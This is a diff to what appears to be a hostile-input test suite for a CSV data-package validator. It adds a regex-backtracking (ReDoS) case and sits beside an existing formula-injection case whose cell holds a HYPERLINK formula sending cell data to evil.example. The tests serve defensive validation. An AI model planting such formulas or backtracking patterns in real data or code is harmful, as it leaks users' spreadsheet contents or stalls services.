@@ -328,6 +328,16 @@ case("hostile-sql-check-reads-outside", base_files(), build="sql_check_reads_out
 case("hostile-formula-injection", base_files(clusters_csv(rows_with(
     4, 'lindholmen,"=HYPERLINK(""http://evil.example/?""&A1,""Lindholmen"")",se-o,2000,,active'))),
      exit=1, check="formula-injection", path="data/clusters.csv", line=5)
+HOSTILE_ID_PATTERN = "(a|aa)+b|[a-z0-9]+(-[a-z0-9]+)*"
+case("hostile-regex-backtracking", {
+    **base_files(clusters_csv(rows_with(
+        4, "a" * 5000 + "!,Lindholmen Science Park,se-o,2000,https://lindholmen.se,active"))),
+    "datapackage.json": descriptor(schema={**CLUSTERS_SCHEMA, "fields": [
+        {**f, "constraints": {**f["constraints"], "pattern": HOSTILE_ID_PATTERN}}
+        if f["name"] == "id" else f for f in CLUSTERS_SCHEMA["fields"]]})},
+     exit=1, check="pattern-timeout", path="data/clusters.csv", line=5,
+     note="(a|aa)+b backtracks exponentially in Python's re (hours on this cell); the match "
+          "runs under a time budget and the cell is reported instead of hanging validation")
 case("hostile-deep-json-descriptor", {}, build="deep_json_descriptor",
      exit=1, check="descriptor-error", path="datapackage.json", line=None)
 case("hostile-deep-json-in-schema", {}, build="deep_json_schema",
